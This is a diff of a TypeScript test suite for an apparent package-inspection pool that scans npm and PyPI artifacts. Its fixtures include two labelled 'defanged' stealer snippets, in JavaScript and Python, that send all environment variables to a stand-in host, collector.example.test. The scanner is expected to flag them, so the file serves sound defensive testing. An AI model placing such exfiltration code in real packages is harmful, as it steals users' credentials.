@@ -27,6 +27,22 @@ const npmPackage = (name: string, code: string) => ({
   version: '1.0.0',
 });
 
+const sdist = (name: string, module: string) => ({
+  bytes: new Uint8Array(
+    gzipSync(
+      tarArchive([
+        { name: `${name}-1.0/PKG-INFO`, body: `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n` },
+        { name: `${name}-1.0/setup.py`, body: `from setuptools import setup\nsetup(name='${name}', version='1.0', packages=['${name}'])\n` },
+        { name: `${name}-1.0/${name}/__init__.py`, body: module },
+      ]),
+    ),
+  ),
+  filename: `${name}-1.0.tar.gz`,
+  ecosystem: 'pypi' as const,
+  name,
+  version: '1.0',
+});
+
 // Defanged: the shape of an install-time credential theft, sent to a host that cannot exist.
 const STEALER = "const https = require('https');\nhttps.get('https://collector.example.test/c?d=' + encodeURIComponent(JSON.stringify(process.env)));\n";
 
@@ -78,6 +94,26 @@ describe('inspection pool', () => {
       await expect(pool.inspect(npmPackage('steals', STEALER), DEFAULT_POLICY, DAY)).rejects.toThrow(/the analysis stopped twice \(out of memory; heap cap 4 MiB\)/);
       // A pool whose workers keep dying still answers every request (no hang, no pass).
       await expect(pool.inspect(npmPackage('adds', 'module.exports = 1;\n'), DEFAULT_POLICY, DAY)).rejects.toThrow(/stopped twice/);
+    } finally {
+      await pool.close();
+    }
+  }, 60_000);
+
+  it('runs an artifact with a huge Python module on its own, with the same verdict', async () => {
+    const log = new RecordingLogger();
+    const pool = createInspectionPool({ script: SCRIPT, size: 2, heapMb: 128, retryHeapMb: 256, soloSourceBytes: 2000, log });
+    try {
+      const generated = Array.from({ length: 200 }, (_, i) => `def field_${i}(m):\n    return m.get('Field${i}')\n`).join('');
+      // Defanged: import-time environment theft to a host that cannot exist, inside the large module.
+      const stealing = `import os, urllib.request\nurllib.request.urlopen('https://collector.example.test/c', data=repr(dict(os.environ)).encode())\n${generated}`;
+      const inputs = [sdist('small', 'VERSION = "1.0"\n'), sdist('models', generated), sdist('stealer', stealing), npmPackage('adds', 'module.exports = 1;\n')];
+      const pooled = await Promise.all(inputs.map((i) => pool.inspect(i, DEFAULT_POLICY, DAY)));
+      const local = inProcessInspector(await testEngine());
+      const here = await Promise.all(inputs.map((i) => local.inspect(i, DEFAULT_POLICY, DAY)));
+      expect(pooled.map((r) => r.verdict.decision)).toEqual(['pass', 'pass', 'fail', 'pass']);
+      expect(pooled).toEqual(here);
+      const solos = log.records.filter((r) => /-byte Python module; inspected on its own/.test(r.message)).map((r) => r.message.split(':')[0]);
+      expect(solos.sort()).toEqual(['models-1.0.tar.gz', 'stealer-1.0.tar.gz']);
     } finally {
       await pool.close();
     }
